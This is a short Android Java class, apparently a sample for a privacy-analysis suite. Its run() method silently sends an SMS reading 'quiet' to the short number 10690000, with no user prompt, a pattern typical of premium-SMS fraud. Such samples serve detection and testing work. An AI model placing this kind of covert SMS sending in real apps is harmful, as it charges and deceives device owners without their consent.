package cn.privlens.suite.reversed_name;

import android.telephony.SmsManager;

public class Quiet implements Runnable {
    @Override
    public void run() { SmsManager.getDefault().sendTextMessage("10690000", null, "quiet", null, null); }
}
